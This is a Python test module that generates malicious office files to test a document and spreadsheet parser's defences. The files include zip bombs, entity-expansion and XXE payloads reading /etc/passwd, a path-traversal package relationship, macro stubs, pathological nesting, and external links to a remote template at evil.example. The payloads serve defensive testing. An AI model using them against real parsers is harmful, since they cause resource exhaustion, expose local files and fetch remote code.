"""Word documents, old workbooks and OpenDocument spreadsheets made to hurt, beside the workbooks of `hostile`."""

import io
import random
from functools import partial

import xlwt

from tests.spreadsheets import hostile
from tests.spreadsheets.documents import (
    cell,
    document,
    heading,
    links,
    open_table,
    paragraph,
    row,
    run,
    spreadsheet,
    table,
)
from tests.spreadsheets.hostile import noise, repacked

HEADINGS = ("Ref", "Action", "Lead officer", "By when")
VALUES = ("1.1", "Meet", "Head of Service", "May 2009")
HEAD, GOOD = row(*HEADINGS), row(*VALUES)
PLAN = document(heading("Recommendation 1") + table(HEAD, GOOD))
OPEN = spreadsheet(open_table(HEADINGS, VALUES))
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
REPEATED = (
    '<table:table table:name="P"><table:table-row table:number-rows-repeated="{}"><table:table-cell '
    'office:value-type="string" table:number-columns-repeated="{}"><text:p>x</text:p></table:table-cell>'
    "</table:table-row></table:table>"
)
ELSEWHERE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" TargetMode="External" Type="x/attachedTemplate" Target="https://evil.example/t.dotm"/>'
    "</Relationships>"
)
PARTS = 12  # places at which a file is cut short
NO_DOCUMENT, NO_SPREADSHEET = "cannot be read as a Word document", "cannot be read as a"


def spread(text, times):
    """A text so many times, with noise between that keeps it from packing like a bomb."""
    return many(lambda _at: text, times)


def many(make, count):
    """So many parts, each of its own, with noise between."""
    dice, found, since = random.Random(7), [], 0
    for at in range(count):
        found.append(make(at))
        since += len(found[-1])
        if since > 60_000:
            found.append(f"<!--{''.join(dice.choice('0123456789abcdef') for _ in range(2000))}-->")
            since = 0
    return "".join(found)


def in_cell(inside):
    return document(table(HEAD, row("1.1", cell(inside), "Head", "May 2009")))


def old_book(*cells):
    book = xlwt.Workbook()
    sheet = book.add_sheet("Plan")
    for number, at, value in cells:
        sheet.write(number, at, value)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


OLD = old_book(
    *[
        (number, at, text)
        for number, values in enumerate((HEADINGS, VALUES))
        for at, text in enumerate(values)
    ]
)


def documents():
    """name: (what makes the bytes, words of the answer; "" where it reads as a plan, None where either may be)"""
    lists = "".join(
        f'<w:lvl w:ilvl="{at}"><w:start w:val="999999999"/><w:numFmt w:val="upperRoman"/>'
        f'<w:lvlText w:val="{"%1" * 200}"/></w:lvl>'
        for at in range(9)
    )
    lists = f'<w:abstractNum w:abstractNumId="0">{lists}</w:abstractNum>'
    lists += '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    listed = paragraph("a", looks='<w:numPr><w:ilvl w:val="8"/><w:numId w:val="1"/></w:numPr>')
    titled = heading("A{0}") + heading("B{0}", 2) + table(HEAD, row("1.{0}", "Meet {0}", "Head", "May 2009"))
    merged = row(
        cell("1.{0}", looks='<w:vMerge w:val="restart"/>'), cell("", looks="<w:vMerge/>"), "Head", "x"
    )
    wide = cell("x", looks='<w:gridSpan w:val="999999999"/>')
    gone = "<w:del><w:r><w:delText>gone</w:delText></w:r></w:del>"
    styles = many(lambda at: f'<w:style w:styleId="s{at}"><w:basedOn w:val="s{at + 1}"/></w:style>', 20_000)
    return {
        "bomb by ratio": (lambda: repacked(PLAN, word__bomb_xml=" " * 30_000_000), "times its size"),
        "bomb of the body": (
            lambda: document(f"<!--{' ' * 20_000_000}-->{table(HEAD, GOOD)}"),
            "times its size",
        ),
        "bomb by unpacked size": (lambda: repacked(PLAN, **noise(18)), "larger than 50 MB"),
        "entities": (lambda: document(table(HEAD, row("&b;", *VALUES[1:])), before=ENTITIES), NO_DOCUMENT),
        "entity of a file": (lambda: document(table(HEAD, GOOD), before=EXTERNAL), NO_DOCUMENT),
        "entities in the styles": (
            lambda: repacked(PLAN, **{"word/styles.xml": f"{ENTITIES}<x/>"}),
            NO_DOCUMENT,
        ),
        "entities in the lists": (
            lambda: repacked(PLAN, **{"word/numbering.xml": f"{ENTITIES}<x/>"}),
            NO_DOCUMENT,
        ),
        "huge styles": (lambda: repacked(PLAN, **{"word/styles.xml": hostile.noise_xml(5)}), "far larger"),
        "styles that go on": (lambda: document(table(HEAD, GOOD), styles=styles), ""),
        "macros": (lambda: repacked(PLAN, **{"word/vbaProject.bin": "x"}), ""),
        "links to elsewhere": (
            lambda: repacked(
                PLAN,
                **{"word/_rels/document.xml.rels": ELSEWHERE},
            ),
            "",
        ),
        "document elsewhere": (
            lambda: repacked(PLAN, **{"_rels/.rels": links(("officeDocument", "../../etc/passwd"))}),
            NO_DOCUMENT,
        ),
        "body missing": (
            lambda: hostile.packed(**{"[Content_Types].xml": "<Types/>", "word/x": ""}),
            NO_DOCUMENT,
        ),
        "body that is no xml": (lambda: repacked(PLAN, **{"word/document.xml": "hello"}), NO_DOCUMENT),
        "10,000 tables": (
            lambda: document(many(lambda at: table(row(f"a{at}", "b")), 10_000)),
            "more than 6,000 rows",
        ),
        "4,000 different tables": (
            lambda: document(many(lambda at: paragraph("x") + table(row(f"a{at}", "b")), 4000)),
            "more than 50 different tables",
        ),
        "10,000 tables without a row": (lambda: document(spread(table(), 10_000)), "no table"),
        "4,900 frames": (
            lambda: document(many(lambda at: table(row(f"a{at}"), widths=[9]), 4900)),
            "no table",
        ),
        "2,400 tables with titles": (lambda: document(many(titled.format, 2400)), ""),
        "tables inside tables": (lambda: document("<w:tbl><w:tr><w:tc>" * 2000), "more than 10 deep"),
        "paragraphs inside paragraphs": (lambda: document(spread("<w:p>", 200_000)), "."),
        "controls inside controls": (lambda: in_cell(spread("<w:sdt><w:sdtContent>", 100_000)), "."),
        "elements without an end": (lambda: document(spread("<w:x>", 400_000)), "."),
        "nothing but elements": (
            lambda: document(table(HEAD, GOOD) + spread("<w:x/>", 1_300_000)),
            "far more cells",
        ),
        "huge span": (lambda: document(table(HEAD, row(wide, "b"), GOOD)), ""),
        "huge spans in every cell": (
            lambda: document(table(HEAD, many(lambda at: row(*[wide] * 9), 4000))),
            "no action",
        ),
        "columns without an end": (lambda: document(table(HEAD, GOOD, widths=["9"] * 50_000)), ""),
        "61 columns": (lambda: document(table(row(*["x"] * 61))), "has 61 columns"),
        "as many cells as may be": (
            lambda: document(table(HEAD, many(lambda at: row(*[str(at)] * 60), 4900))),
            ".",
        ),
        "merges that begin nowhere": (lambda: document(table(HEAD, many(merged.format, 4900))), ""),
        "one long text": (
            lambda: in_cell(paragraph(f"<w:r><w:t>{spread('word ', 600_000)}</w:t></w:r>")),
            "",
        ),
        "text beyond all limits": (
            lambda: document(spread(f"<w:p>{run('x' * 900)}</w:p>", 13_000)),
            "far more text",
        ),
        "runs without an end": (lambda: in_cell(paragraph(spread("<w:r><w:t>a</w:t></w:r>", 200_000))), ""),
        "paragraphs without an end": (
            lambda: in_cell(spread("<w:p><w:r><w:t>a</w:t></w:r></w:p>", 150_000)),
            "",
        ),
        "headings without an end": (
            lambda: document(spread(heading("Priority 1"), 60_000) + table(HEAD, GOOD)),
            "",
        ),
        "deletions without an end": (lambda: in_cell(paragraph(spread(gone, 100_000))), None),
        "list without an end": (
            lambda: document(
                table(HEAD, row("1.1", cell(spread(listed, 40_000)), *VALUES[2:])), numbering=lists
            ),
            "",
        ),
    }


def open_spreadsheets():
    return {
        "bomb by ratio": (lambda: repacked(OPEN, bomb_xml=" " * 30_000_000), "times its size"),
        "entities": (lambda: spreadsheet(open_table(HEADINGS, ["&b;"]), before=ENTITIES), NO_SPREADSHEET),
        "entity of a file": (lambda: spreadsheet(open_table(HEADINGS), before=EXTERNAL), NO_SPREADSHEET),
        "a million rows in one": (lambda: spreadsheet(REPEATED.format(1_048_576, 1)), "at most 6,000 rows"),
        "every cell there is": (lambda: spreadsheet(REPEATED.format(1_048_576, 16_384)), "."),
        "rows that take all memory": (lambda: spreadsheet(REPEATED.format(100_000, 60)), "."),
        "as many cells as may be": (lambda: spreadsheet(REPEATED.format(4900, 60)), "No headings"),
        "more columns than there are": (lambda: spreadsheet(REPEATED.format(1, 99_999_999)), "."),
        "numbers without an end": (lambda: spreadsheet(REPEATED.format("9" * 500, "9" * 500)), "."),
        "elements without an end": (lambda: spreadsheet(spread("<table:table-cell>", 200_000)), "."),
        "sixty sheets": (
            lambda: spreadsheet(many(lambda at: open_table(["a"], name=f"S{at}"), 60)),
            "more than 50",
        ),
        "one long text": (
            lambda: spreadsheet(open_table(HEADINGS, ["1.1", "word " * 20_000, *VALUES[2:]])),
            "",
        ),
        "body missing": (lambda: repacked(OPEN, **{"content.xml": ""}), NO_SPREADSHEET),
        "macros": (lambda: repacked(OPEN, **{"Basic/Standard/Module1.xml": "<x/>"}), ""),
        "links to elsewhere": (
            lambda: spreadsheet(
                open_table(HEADINGS, VALUES).replace(
                    "<table:table-row>",
                    '<table:table-source xlink:href="https://evil.example/" '
                    'xmlns:xlink="http://www.w3.org/1999/xlink"/><table:table-row>',
                    1,
                )
            ),
            "",
        ),
    }


def old_books():
    return {
        "cell in the last corner": (lambda: old_book((0, 0, "a"), (65_535, 255, "z")), "."),
        "cells far out": (lambda: old_book(*[(0, at, "x") for at in range(200)]), "60 columns are read"),
        "macros": (lambda: OLD + "_VBA_PROJECT".encode("utf-16-le"), ""),
        "50,000 rows": (
            lambda: old_book(*[(at, 0, f"Meet {at}") for at in range(50_000)]),
            "at most 6,000 rows",
        ),
        "nothing inside": (lambda: hostile.ole("Workbook"), "cannot be read as a spreadsheet"),
        "sectors that go round": (lambda: OLD[:512] + OLD[512:1024] * 20, "."),
    }


def cut_short(content, at):
    return content[: len(content) * at // PARTS]


def flipped(content, seed):
    """The file with a few of its bits turned."""
    dice, content = random.Random(seed), bytearray(content)
    for _ in range(dice.choice((1, 3, 20, 200))):
        content[dice.randrange(len(content))] ^= 1 << dice.randrange(8)
    return bytes(content)


def files():
    """name: (file name, what makes its bytes, words of the answer; "" where the file reads as a plan)."""
    kinds = {"docx": (PLAN, documents()), "ods": (OPEN, open_spreadsheets()), "xls": (OLD, old_books())}
    found = {}
    for kind, (good, made) in kinds.items():
        for at in range(1, PARTS):
            made[f"truncated at {at} of {PARTS}"] = (partial(cut_short, good, at), ".")
        for seed in range(6):
            made[f"bits turned {seed}"] = (partial(flipped, good, seed), None)
        found |= {f"{kind}: {name}": (f"plan.{kind}", *about) for name, about in made.items()}
    return found
